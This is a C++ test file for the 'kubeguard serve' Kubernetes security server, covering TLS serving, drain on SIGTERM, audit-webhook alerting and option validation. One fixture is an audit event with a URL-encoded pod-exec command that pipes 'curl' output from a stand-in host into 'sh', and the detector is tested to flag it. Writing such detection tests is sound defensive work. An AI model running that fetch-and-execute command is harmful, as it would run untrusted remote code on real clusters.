// The real `kubeguard serve` binary: starts from the command line, answers
// over TLS, drains on SIGTERM and exits 0; refuses bad options.
#include <signal.h>

#include <thread>

#include <gtest/gtest.h>

#include "admission/review_support.h"
#include "server/child_process.h"
#include "server/tls_support.h"
#include "support/test_support.h"

namespace kg::server {
namespace {

using namespace std::chrono_literals;
using testing::TlsClient;

using testing::Child;

// `kubeguard serve` with the test PKI's certificate, on a port the kernel picks.
std::vector<std::string> serve_command(const testing::TestPki& pki) {
  return {
      KG_BINARY,     "serve",     "--tls-cert", pki.path("server.crt"), "--tls-key", pki.path("server.key"), "--listen",
      "127.0.0.1:0", "--threads", "2"};
}

TEST(ServerBinary, SigtermDrainsTheRequestInFlightAndExitsZero) {
  testing::TestPki pki;
  ASSERT_TRUE(pki.ok());
  Child serve(serve_command(pki), pki.path("serve.log"));
  unsigned short port = serve.port(10s);
  ASSERT_NE(port, 0) << serve.log();

  TlsClient ready;
  ASSERT_TRUE(ready.connect(port, pki.path("ca.crt")));
  ASSERT_TRUE(ready.send(TlsClient::request("GET", "/readyz", "")));
  auto r = ready.read();
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200);

  testing::ReviewSpec spec;
  spec.uid = "drained";
  spec.object_yaml =
      "apiVersion: v1\nkind: Pod\nmetadata: {name: web}\nspec:\n  containers:\n"
      "  - {name: web, image: nginx:1.27, securityContext: {privileged: true}}\n";
  std::string whole = TlsClient::request("POST", "/validate", testing::review_json(spec));
  TlsClient busy;
  ASSERT_TRUE(busy.connect(port, pki.path("ca.crt")));
  ASSERT_TRUE(busy.send(whole.substr(0, whole.size() / 2)));
  std::this_thread::sleep_for(200ms);
  ASSERT_EQ(kill(serve.pid(), SIGTERM), 0);
  std::this_thread::sleep_for(200ms);
  ASSERT_TRUE(busy.send(whole.substr(whole.size() / 2)));
  auto a = busy.read();
  ASSERT_TRUE(a) << serve.log();
  EXPECT_EQ(a->status, 200);
  EXPECT_NE(a->body.find("\"uid\":\"drained\""), std::string::npos);
  EXPECT_NE(a->body.find("\"allowed\":false"), std::string::npos);
  EXPECT_EQ(serve.wait(10s), 0) << serve.log();
  std::string log = serve.log();
  EXPECT_NE(log.find("uid=drained kind=Pod op=CREATE"), std::string::npos) << log;
  EXPECT_NE(log.find("stopping"), std::string::npos) << log;
  EXPECT_NE(log.find("stopped"), std::string::npos) << log;
}

// The API server's audit webhook backend posts EventList batches to /audit;
// the detector of `kubeguard audit` answers them and prints its alerts.
TEST(ServerBinary, AuditWebhookBatchesRaiseAlerts) {
  testing::TestPki pki;
  ASSERT_TRUE(pki.ok());
  Child serve(serve_command(pki), pki.path("serve.log"));
  unsigned short port = serve.port(10s);
  ASSERT_NE(port, 0) << serve.log();
  const std::string exec_event =
      R"({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"exec-1",)"
      R"("stage":"ResponseComplete","requestURI":"/api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&)"
      R"(command=curl%20-s%20http%3A%2F%2Fx.example%2Fm.sh%7Csh&container=web&stdin=true&tty=true",)"
      R"("verb":"create","user":{"username":"mallory","groups":["system:authenticated"]},)"
      R"("sourceIPs":["10.0.0.5"],"userAgent":"kubectl/v1.33.13","objectRef":{"resource":"pods",)"
      R"("namespace":"shop","name":"web","apiVersion":"v1","subresource":"exec"},)"
      R"("responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2026-11-22T10:00:00.000000Z",)"
      R"("stageTimestamp":"2026-11-22T10:00:00.100000Z"})";
  TlsClient client;
  ASSERT_TRUE(client.connect(port, pki.path("ca.crt")));
  ASSERT_TRUE(client.send(TlsClient::request(
      "POST", "/audit", R"({"kind":"EventList","apiVersion":"audit.k8s.io/v1","items":[)" + exec_event + "]}")));
  auto reply = client.read();
  ASSERT_TRUE(reply) << serve.log();
  EXPECT_EQ(reply->status, 200) << reply->body;
  EXPECT_NE(reply->body.find("\"events\":1"), std::string::npos) << reply->body;
  EXPECT_EQ(reply->body.find("\"alerts\":0"), std::string::npos) << reply->body;

  ASSERT_TRUE(client.send(TlsClient::request("POST", "/audit", R"({"kind":"Pod"})")));
  auto wrong = client.read();
  ASSERT_TRUE(wrong) << serve.log();
  EXPECT_EQ(wrong->status, 400) << wrong->body;

  ASSERT_EQ(kill(serve.pid(), SIGTERM), 0);
  EXPECT_EQ(serve.wait(10s), 0) << serve.log();
  std::string log = serve.log();
  EXPECT_NE(log.find("\"rule\":\"KG-AUD-007\""), std::string::npos) << log;
  EXPECT_NE(log.find("audit: 1 events"), std::string::npos) << log;
}

TEST(ServerBinary, RefusesBadOptions) {
  testing::TestPki pki;
  ASSERT_TRUE(pki.ok());
  std::string tls = " --tls-cert " + pki.path("server.crt") + " --tls-key " + pki.path("server.key");
  EXPECT_EQ(testing::run_kubeguard("serve --mode block" + tls + " 2>/dev/null"), 2);
  EXPECT_EQ(testing::run_kubeguard("serve --listen nowhere" + tls + " 2>/dev/null"), 2);
  EXPECT_EQ(testing::run_kubeguard("serve --tls-cert /nonexistent --tls-key /nonexistent 2>/dev/null"), 2);
  EXPECT_EQ(testing::run_kubeguard("serve --tls-cert " + pki.path("server.crt") + " --tls-key " + pki.path("ca.key") +
                                   " --listen 127.0.0.1:0 2>/dev/null"),
            2);  // a key that is not the certificate's
}

}  // namespace
}  // namespace kg::server
